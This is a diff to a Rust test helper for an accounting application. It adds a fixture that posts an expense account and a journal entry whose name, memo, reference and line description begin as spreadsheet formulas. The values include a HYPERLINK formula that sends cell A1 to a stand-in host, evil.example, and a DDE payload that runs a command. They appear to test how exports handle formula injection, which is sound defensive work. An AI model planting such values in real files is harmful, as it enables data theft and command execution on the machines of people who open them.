@@ -120,3 +120,44 @@ pub async fn open(app: &TestApp, books: &Books) -> String {
 pub fn url_time(time: &str) -> String {
     time.replace('+', "%2B")
 }
+
+/// A cell that would run as a formula in a spreadsheet.
+pub const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+
+/// An account named like a formula (code 6990, expense) and an entry on it whose memo,
+/// reference and line description start formulas too; 1500.00 from cash.
+pub async fn formula_named_entry(app: &TestApp, books: &Books) {
+    let token = Some(books.owner.access.as_str());
+    let tree = app.read(&format!("{}accounts/", books.base), token).await;
+    let expenses = tree.body["data"]
+        .as_array()
+        .expect("tree")
+        .iter()
+        .find(|n| n["account_type"] == "expense")
+        .and_then(|n| n["id"].as_str())
+        .expect("an expense root")
+        .to_owned();
+    let created = app
+        .post(
+            &format!("{}accounts/", books.base),
+            token,
+            json!({"name": HYPERLINK, "account_code": "6990", "account_type": "expense",
+                   "parent_id": expenses}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.body);
+    let account = created.body["data"]["id"].as_str().expect("id").to_owned();
+    let cash = leaf(app, books, "1120").await;
+    let posted = app
+        .post(
+            &format!("{}journal-entries/", books.base),
+            token,
+            json!({"date": "2026-02-02", "memo": "+cmd|' /C calc'!A0", "reference": "@SUM(1+1)",
+                   "post": true, "lines": [
+                {"account_id": account, "debit": "1500.00", "description": "-2+3"},
+                {"account_id": cash, "credit": "1500.00", "description": "Paid"}
+            ]}),
+        )
+        .await;
+    assert_eq!(posted.status, 201, "{}", posted.body);
+}
